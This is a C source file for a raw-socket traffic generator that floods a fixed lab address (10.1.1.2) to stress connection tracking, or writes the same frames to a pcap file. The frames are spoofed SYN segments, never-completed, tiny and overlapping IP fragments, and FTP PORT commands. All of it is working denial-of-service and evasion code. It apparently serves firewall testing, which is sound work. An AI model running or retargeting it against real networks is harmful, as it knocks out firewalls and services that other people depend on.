/* Sends frames that attack connection tracking through a packet socket, or writes them to a capture file (pcap).
 *
 *     flood KIND DEVICE PPS SECONDS
 *     flood KIND FILE FRAMES
 *
 * syn: first segments of TCP from random addresses. never: first fragments whose datagrams never end. tiny: fragments
 * of eight bytes. overlap: second fragments that overlap the first. ftp: segments to port 21 with a PORT command.
 * Prints how many frames were sent. Every frame is for 10.1.1.2, MAC address 02:00:00:00:00:02.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#define BATCH 64
#define FRAME 1514

static uint64_t state = 88172645463325252ull;

static uint32_t draw(void) {
    state ^= state << 13, state ^= state >> 7, state ^= state << 17;
    return (uint32_t)(state >> 16);
}

static uint32_t sum(const uint8_t *b, size_t n, uint32_t s) {
    for (size_t i = 0; i + 1 < n; i += 2) s += b[i] << 8 | b[i + 1];
    if (n & 1) s += b[n - 1] << 8;
    return s;
}

static uint16_t folded(uint32_t s) {
    while (s >> 16) s = (s & 0xffff) + (s >> 16);
    return (uint16_t)~s;
}

static void put(uint8_t *at, uint32_t value, int bytes) {
    for (int i = 0; i < bytes; i++) at[i] = (uint8_t)(value >> 8 * (bytes - 1 - i));
}

/* An IPv4 header for `payload` bytes behind it; `frag`: the flags and the offset. */
static void ip(uint8_t *h, uint32_t src, int proto, int payload, uint16_t id, uint16_t frag) {
    memset(h, 0, 20);
    h[0] = 0x45, h[8] = 64, h[9] = (uint8_t)proto;
    put(h + 2, 20 + payload, 2), put(h + 4, id, 2), put(h + 6, frag, 2);
    put(h + 12, src, 4), put(h + 16, 0x0a010102, 4);
    put(h + 10, folded(sum(h, 20, 0)), 2);
}

/* A segment of TCP with `data` bytes already behind its header. */
static void tcp(uint8_t *l4, uint32_t src, uint16_t sport, uint16_t dport, int flags, int data) {
    uint8_t pseudo[12] = {0};
    memset(l4, 0, 20);
    put(l4, sport, 2), put(l4 + 2, dport, 2), put(l4 + 4, draw(), 4), put(l4 + 14, 65535, 2);
    l4[12] = 5 << 4, l4[13] = (uint8_t)flags;
    put(pseudo, src, 4), put(pseudo + 4, 0x0a010102, 4), put(pseudo + 8, 6, 2), put(pseudo + 10, 20 + data, 2);
    put(l4 + 16, folded(sum(pseudo, 12, sum(l4, 20 + data, 0))), 2);
}

/* Makes the n-th frame; returns its length. */
static int make(const char *kind, uint8_t *frame, uint64_t n) {
    uint8_t *h = frame + 14, *l4 = h + 20;
    uint32_t src = 0x0b000000 | (draw() & 0xffffff);
    memcpy(frame, "\2\0\0\0\0\2\2\0\0\0\0\3\x08", 13);
    if (!strcmp(kind, "syn")) {
        ip(h, src, 6, 20, (uint16_t)n, 0x4000);
        tcp(l4, src, (uint16_t)draw(), 80, 2, 0);
        return 60;
    }
    if (!strcmp(kind, "ftp")) {
        int len = sprintf((char *)l4 + 20, "PORT 11,%d,%d,%d,%d,%d\r\n", src >> 16 & 255, src >> 8 & 255, src & 255, draw() & 255, draw() & 255);
        ip(h, src, 6, 20 + len, (uint16_t)n, 0x4000);
        tcp(l4, src, (uint16_t)draw(), 21, n & 1 ? 0x18 : 2, len);
        return 14 + 40 + len;
    }
    if (!strcmp(kind, "never")) {
        ip(h, src, 17, 1400, (uint16_t)n, 0x2000);
        return 14 + 20 + 1400;
    }
    if (!strcmp(kind, "tiny")) {
        ip(h, (src & ~0xffffffu) | (uint32_t)(n >> 10 & 0xff), 17, 8, (uint16_t)(n >> 7), (uint16_t)(0x2000 | (n & 127)));
        return 60;
    }
    /* overlap */
    src = 0x0b000000 | (uint32_t)(n >> 1 & 0xffffff);
    ip(h, src, 17, 1400, (uint16_t)(n >> 1), n & 1 ? 100 : 0x2000);
    return 14 + 20 + 1400;
}

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

/* Writes `count` frames to a capture file. */
static int write_frames(const char *kind, const char *path, uint64_t count) {
    static uint8_t frame[FRAME];
    /* The file header (version 2.4, Ethernet), and the header of a frame, whose last words are its length. */
    uint32_t head[6] = {0xa1b2c3d4, 0x00040002, 0, 0, FRAME, 1}, record[4] = {0};
    FILE *file = fopen(path, "wb");
    if (!file) return perror("flood"), 1;
    fwrite(head, sizeof head, 1, file);
    /* Files differ in their random addresses. */
    for (const char *c = path; *c; c++) state = state * 31 + (uint8_t)*c;
    for (uint64_t n = 0; n < count; n++) {
        uint32_t length = (uint32_t)make(kind, frame, n);
        record[2] = record[3] = length;
        fwrite(record, sizeof record, 1, file), fwrite(frame, length, 1, file);
    }
    return fclose(file) != 0;
}

int main(int argc, char **argv) {
    static uint8_t frames[BATCH][FRAME];
    static struct mmsghdr messages[BATCH];
    static struct iovec vectors[BATCH];
    if (argc == 4) return write_frames(argv[1], argv[2], strtoull(argv[3], 0, 10));
    if (argc != 5) return 2;
    int s = socket(AF_PACKET, SOCK_RAW, 0);
    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(argv[2])};
    if (s < 0 || bind(s, (struct sockaddr *)&to, sizeof to)) return perror("flood"), 1;
    for (int i = 0; i < BATCH; i++) {
        vectors[i].iov_base = frames[i];
        messages[i].msg_hdr.msg_iov = &vectors[i], messages[i].msg_hdr.msg_iovlen = 1;
    }
    double pps = atof(argv[3]), began = now(), end = began + atof(argv[4]);
    uint64_t made = 0, sent = 0;
    while (now() < end) {
        if (pps > 0 && made > (now() - began) * pps) {
            struct timespec pause = {.tv_nsec = 200000};
            nanosleep(&pause, 0);
            continue;
        }
        for (int i = 0; i < BATCH; i++) vectors[i].iov_len = (size_t)make(argv[1], frames[i], made++);
        int n = sendmmsg(s, messages, BATCH, 0);
        if (n > 0) sent += (uint64_t)n;
    }
    printf("%llu\n", (unsigned long long)sent);
    return 0;
}
